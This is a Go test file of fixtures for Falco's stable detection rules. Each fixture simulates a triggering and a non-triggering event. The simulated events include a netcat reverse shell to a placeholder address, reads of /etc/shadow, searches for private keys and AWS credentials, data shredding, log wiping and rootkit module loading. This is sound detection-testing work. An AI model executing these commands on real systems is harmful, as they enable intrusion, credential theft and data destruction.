package rules

import (
	"testing"

	"github.com/wardsec/ward/internal/runtime/event"
)

// Fixtures for every rule of Falco's upstream stable rule file.
var stableCases = map[string]ruleCase{
	"Directory traversal monitored file read": {
		fire: func(sc *event.Scenario) {
			web := sc.Init().Spawn(event.ExecSpec{Exe: "/usr/sbin/nginx"})
			php := web.Spawn(event.ExecSpec{Exe: "/usr/sbin/php-fpm8.2", Comm: "php-fpm8.2"})
			php.Open("/var/www/html/../../../etc/passwd", event.ORdonly)
		},
		miss: func(sc *event.Scenario) {
			web := sc.Init().Spawn(event.ExecSpec{Exe: "/usr/sbin/nginx"})
			php := web.Spawn(event.ExecSpec{Exe: "/usr/sbin/php-fpm8.2", Comm: "php-fpm8.2"})
			php.Open("/etc/passwd", event.ORdonly)
		},
	},
	"Read sensitive file trusted after startup": {
		fire: func(sc *event.Scenario) {
			ng := sc.Init().Spawn(event.ExecSpec{Exe: "/usr/sbin/nginx"})
			sc.Sleep(10e9)
			ng.Open("/etc/shadow", event.ORdonly)
		},
		miss: func(sc *event.Scenario) {
			ng := sc.Init().Spawn(event.ExecSpec{Exe: "/usr/sbin/nginx"})
			ng.Open("/etc/shadow", event.ORdonly) // at startup
		},
	},
	"Read sensitive file untrusted": {
		fire: func(sc *event.Scenario) {
			sh := sc.Init().Spawn(event.ExecSpec{Exe: "/bin/bash"})
			cat := sh.Spawn(event.ExecSpec{Exe: "/usr/bin/cat", Args: args("cat", "/etc/shadow")})
			cat.Open("/etc/shadow", event.ORdonly)
		},
		miss: func(sc *event.Scenario) {
			sh := sc.Init().Spawn(event.ExecSpec{Exe: "/bin/bash"})
			pw := sh.Spawn(event.ExecSpec{Exe: "/usr/bin/passwd"})
			pw.Open("/etc/shadow", event.ORdonly)
		},
	},
	"Run shell untrusted": {
		fire: func(sc *event.Scenario) {
			ng := sc.Init().Spawn(event.ExecSpec{Exe: "/usr/sbin/nginx"})
			ng.Spawn(event.ExecSpec{Exe: "/bin/sh", Args: args("sh", "-c", "id; cat /etc/passwd")})
		},
		miss: func(sc *event.Scenario) {
			ng := sc.Init().Spawn(event.ExecSpec{Exe: "/usr/sbin/nginx"})
			ng.Spawn(event.ExecSpec{Exe: "/bin/sh", Args: args("sh", "-c", "uname -a 2>&1")})
		},
	},
	"System user interactive": {
		fire: func(sc *event.Scenario) {
			sshd := sc.Init().Spawn(event.ExecSpec{Exe: "/usr/sbin/sshd"})
			sshd.Spawn(event.ExecSpec{Exe: "/bin/bash", UID: event.U32(33), TTY: event.U32(34816)})
		},
		miss: func(sc *event.Scenario) {
			sshd := sc.Init().Spawn(event.ExecSpec{Exe: "/usr/sbin/sshd"})
			sshd.Spawn(event.ExecSpec{Exe: "/bin/bash", UID: event.U32(1000), TTY: event.U32(34816)})
		},
	},
	"Terminal shell in container": {
		fire: func(sc *event.Scenario) {
			shim, _ := inContainer(sc, alpine(cid))
			id := cid[:12]
			shim.Spawn(event.ExecSpec{Exe: "/bin/bash", ContainerID: &id, TTY: event.U32(34816)})
		},
		miss: func(sc *event.Scenario) {
			shim, _ := inContainer(sc, alpine(cid))
			id := cid[:12]
			shim.Spawn(event.ExecSpec{Exe: "/bin/bash", ContainerID: &id, TTY: event.U32(0)})
		},
	},
	"Contact K8S API Server From Container": {
		fire: func(sc *event.Scenario) {
			_, app := inContainer(sc, alpine(cid))
			sc.DNS("kubernetes.default.svc.cluster.local", "10.96.0.1")
			fd := app.Socket(event.AFInet, 1)
			app.Connect(fd, "10.244.1.7", 40000, "10.96.0.1", 443)
		},
		miss: func(sc *event.Scenario) {
			c := alpine(cid)
			c.PodNamespace = "kube-system"
			_, app := inContainer(sc, c)
			sc.DNS("kubernetes.default.svc.cluster.local", "10.96.0.1")
			fd := app.Socket(event.AFInet, 1)
			app.Connect(fd, "10.244.1.7", 40000, "10.96.0.1", 443)
		},
	},
	"Netcat Remote Code Execution in Container": {
		fire: func(sc *event.Scenario) {
			_, app := inContainer(sc, alpine(cid))
			app.Spawn(event.ExecSpec{Exe: "/usr/bin/nc", Args: args("nc", "-e", "/bin/sh", "203.0.113.9", "4444")})
		},
		miss: func(sc *event.Scenario) {
			_, app := inContainer(sc, alpine(cid))
			app.Spawn(event.ExecSpec{Exe: "/usr/bin/nc", Args: args("nc", "-z", "db", "5432")})
		},
	},
	"Search Private Keys or Passwords": {
		fire: func(sc *event.Scenario) {
			sh := sc.Init().Spawn(event.ExecSpec{Exe: "/bin/bash"})
			sh.Spawn(event.ExecSpec{Exe: "/usr/bin/grep", Args: args("grep", "-r", "BEGIN RSA PRIVATE", "/home")})
		},
		miss: func(sc *event.Scenario) {
			sh := sc.Init().Spawn(event.ExecSpec{Exe: "/bin/bash"})
			sh.Spawn(event.ExecSpec{Exe: "/usr/bin/grep", Args: args("grep", "-r", "TODO", "/home")})
		},
	},
	"Clear Log Activities": {
		fire: func(sc *event.Scenario) {
			sh := sc.Init().Spawn(event.ExecSpec{Exe: "/bin/bash"})
			sh.Open("/var/log/auth.log", event.OWronly|event.OTrunc)
		},
		miss: func(sc *event.Scenario) {
			sh := sc.Init().Spawn(event.ExecSpec{Exe: "/bin/bash"})
			sh.Open("/var/log/auth.log", event.OWronly|event.OAppend)
		},
	},
	"Remove Bulk Data from Disk": {
		fire: func(sc *event.Scenario) {
			sc.Init().Spawn(event.ExecSpec{Exe: "/bin/bash"}).Spawn(event.ExecSpec{Exe: "/usr/bin/shred", Args: args("shred", "-u", "/data/db")})
		},
		miss: func(sc *event.Scenario) {
			sc.Init().Spawn(event.ExecSpec{Exe: "/bin/bash"}).Spawn(event.ExecSpec{Exe: "/usr/bin/rm", Args: args("rm", "/tmp/x")})
		},
	},
	"Create Symlink Over Sensitive Files": {
		fire: func(sc *event.Scenario) {
			sh := sc.Init().Spawn(event.ExecSpec{Exe: "/bin/bash"})
			sh.Syscall(event.TypeSymlinkat, func(ev *event.Event) { ev.Path, ev.Path2, ev.FD = "/etc/shadow", "/tmp/s", event.AtFDCWD })
		},
		miss: func(sc *event.Scenario) {
			sh := sc.Init().Spawn(event.ExecSpec{Exe: "/bin/bash"})
			sh.Syscall(event.TypeSymlinkat, func(ev *event.Event) { ev.Path, ev.Path2, ev.FD = "/etc/hosts", "/tmp/s", event.AtFDCWD })
		},
	},
	"Create Hardlink Over Sensitive Files": {
		fire: func(sc *event.Scenario) {
			sh := sc.Init().Spawn(event.ExecSpec{Exe: "/bin/bash"})
			sh.Syscall(event.TypeLinkat, func(ev *event.Event) { ev.Path, ev.Path2 = "/etc/shadow", "/tmp/s" })
		},
		miss: func(sc *event.Scenario) {
			sh := sc.Init().Spawn(event.ExecSpec{Exe: "/bin/bash"})
			sh.Syscall(event.TypeLinkat, func(ev *event.Event) { ev.Path, ev.Path2 = "/etc/hostname", "/tmp/s" })
		},
	},
	"Packet socket created in container": {
		fire: func(sc *event.Scenario) {
			_, app := inContainer(sc, alpine(cid))
			app.Socket(event.AFPacket, 3)
		},
		miss: func(sc *event.Scenario) {
			_, app := inContainer(sc, alpine(cid))
			app.Socket(event.AFInet, 1)
		},
	},
	"Redirect STDOUT/STDIN to Network Connection in Container": {
		fire: func(sc *event.Scenario) {
			_, app := inContainer(sc, alpine(cid))
			fd := app.Socket(event.AFInet, 1)
			app.Connect(fd, "10.244.1.7", 40001, "203.0.113.9", 4444)
			app.Dup2(fd, 0)
		},
		miss: func(sc *event.Scenario) {
			_, app := inContainer(sc, alpine(cid))
			fd := app.Socket(event.AFInet, 1)
			app.Connect(fd, "10.244.1.7", 40001, "203.0.113.9", 4444)
			app.Dup2(fd, 9)
		},
	},
	"Linux Kernel Module Injection Detected": {
		fire: func(sc *event.Scenario) {
			_, app := inContainer(sc, alpine(cid))
			ins := app.Spawn(event.ExecSpec{Exe: "/sbin/insmod", Args: args("insmod", "rootkit.ko"), CapEff: event.U64(1 << capSysModule)})
			ins.Syscall(event.TypeFinitModule, func(ev *event.Event) { ev.FD = 3 })
		},
		miss: func(sc *event.Scenario) {
			_, app := inContainer(sc, alpine(cid))
			ins := app.Spawn(event.ExecSpec{Exe: "/sbin/insmod", Args: args("insmod", "rootkit.ko"), CapEff: event.U64(1 << capSysAdmin)})
			ins.Syscall(event.TypeFinitModule, func(ev *event.Event) { ev.FD = 3; ev.Res = -1 })
		},
	},
	"Debugfs Launched in Privileged Container": {
		fire: func(sc *event.Scenario) {
			c := alpine(cid)
			c.Privileged = true
			_, app := inContainer(sc, c)
			app.Spawn(event.ExecSpec{Exe: "/sbin/debugfs", Args: args("debugfs", "/dev/sda1")})
		},
		miss: func(sc *event.Scenario) {
			_, app := inContainer(sc, alpine(cid))
			app.Spawn(event.ExecSpec{Exe: "/sbin/debugfs", Args: args("debugfs", "/dev/sda1")})
		},
	},
	"Detect release_agent File Container Escapes": {
		fire: func(sc *event.Scenario) {
			_, app := inContainer(sc, alpine(cid))
			sh := app.Spawn(event.ExecSpec{Exe: "/bin/sh", CapEff: event.U64(1<<capSysAdmin | 1<<capDacOverride)})
			sh.Open("/tmp/cgrp/release_agent", event.OWronly)
		},
		miss: func(sc *event.Scenario) {
			_, app := inContainer(sc, alpine(cid))
			sh := app.Spawn(event.ExecSpec{Exe: "/bin/sh", CapEff: event.U64(1 << capDacOverride)})
			sh.Open("/tmp/cgrp/release_agent", event.OWronly)
		},
	},
	"PTRACE attached to process": {
		fire: func(sc *event.Scenario) {
			gdb := sc.Init().Spawn(event.ExecSpec{Exe: "/usr/bin/gdb"})
			gdb.Syscall(event.TypePtrace, func(ev *event.Event) { ev.Arg, ev.Arg2 = 16, 1234 })
		},
		miss: func(sc *event.Scenario) {
			gdb := sc.Init().Spawn(event.ExecSpec{Exe: "/usr/bin/gdb"})
			gdb.Syscall(event.TypePtrace, func(ev *event.Event) { ev.Arg, ev.Arg2 = 2, 1234 })
		},
	},
	"PTRACE anti-debug attempt": {
		fire: func(sc *event.Scenario) {
			m := sc.Init().Spawn(event.ExecSpec{Exe: "/tmp/malware"})
			m.Syscall(event.TypePtrace, func(ev *event.Event) { ev.Arg = 0 })
		},
		miss: func(sc *event.Scenario) {
			m := sc.Init().Spawn(event.ExecSpec{Exe: "/tmp/malware"})
			m.Syscall(event.TypePtrace, func(ev *event.Event) { ev.Arg = 16 })
		},
	},
	"Find AWS Credentials": {
		fire: func(sc *event.Scenario) {
			sc.Init().Spawn(event.ExecSpec{Exe: "/bin/bash"}).Spawn(event.ExecSpec{Exe: "/usr/bin/find", Args: args("find", "/", "-path", "*/.aws/credentials")})
		},
		miss: func(sc *event.Scenario) {
			sc.Init().Spawn(event.ExecSpec{Exe: "/bin/bash"}).Spawn(event.ExecSpec{Exe: "/usr/bin/find", Args: args("find", "/", "-name", "*.log")})
		},
	},
	"Execution from /dev/shm": {
		fire: func(sc *event.Scenario) {
			sc.Init().Spawn(event.ExecSpec{Exe: "/bin/bash"}).Spawn(event.ExecSpec{Exe: "/dev/shm/.x", Args: args("/dev/shm/.x")})
		},
		miss: func(sc *event.Scenario) {
			sc.Init().Spawn(event.ExecSpec{Exe: "/bin/bash"}).Spawn(event.ExecSpec{Exe: "/usr/bin/ls", Args: args("ls", "/dev/shm")})
		},
	},
	"Drop and execute new binary in container": {
		fire: func(sc *event.Scenario) {
			_, app := inContainer(sc, alpine(cid))
			app.Spawn(event.ExecSpec{Exe: "/tmp/xmrig", ExeFlags: event.ExeUpperLayer})
		},
		miss: func(sc *event.Scenario) {
			_, app := inContainer(sc, alpine(cid))
			app.Spawn(event.ExecSpec{Exe: "/usr/bin/curl", ExeFlags: event.ExeLowerLayer})
		},
	},
	"Disallowed SSH Connection Non Standard Port": {
		fire: func(sc *event.Scenario) {
			ssh := sc.Init().Spawn(event.ExecSpec{Exe: "/bin/bash"}).Spawn(event.ExecSpec{Exe: "/usr/bin/ssh", Args: args("/usr/bin/ssh", "-p", "443", "x@203.0.113.5")})
			fd := ssh.Socket(event.AFInet, 1)
			ssh.Connect(fd, "192.168.1.10", 50000, "203.0.113.5", 443)
		},
		miss: func(sc *event.Scenario) {
			ssh := sc.Init().Spawn(event.ExecSpec{Exe: "/bin/bash"}).Spawn(event.ExecSpec{Exe: "/usr/bin/ssh", Args: args("/usr/bin/ssh", "x@203.0.113.5")})
			fd := ssh.Socket(event.AFInet, 1)
			ssh.Connect(fd, "192.168.1.10", 50000, "203.0.113.5", 22)
		},
	},
	"Fileless execution via memfd_create": {
		fire: func(sc *event.Scenario) {
			sc.Init().Spawn(event.ExecSpec{Exe: "/bin/bash"}).Spawn(event.ExecSpec{Exe: "/memfd:payload", Comm: "payload", ExeFlags: event.ExeFromMemfd})
		},
		miss: func(sc *event.Scenario) {
			sc.Init().Spawn(event.ExecSpec{Exe: "/bin/bash"}).Spawn(event.ExecSpec{Exe: "/usr/bin/payload", Comm: "payload"})
		},
	},
}

func TestUpstreamStableRules(t *testing.T) {
	eng, err := Load([]string{upstreamFile(t, "falco_rules.yaml")}, Options{})
	if err != nil {
		t.Fatal(err)
	}
	checkCases(t, eng, stableCases)
}
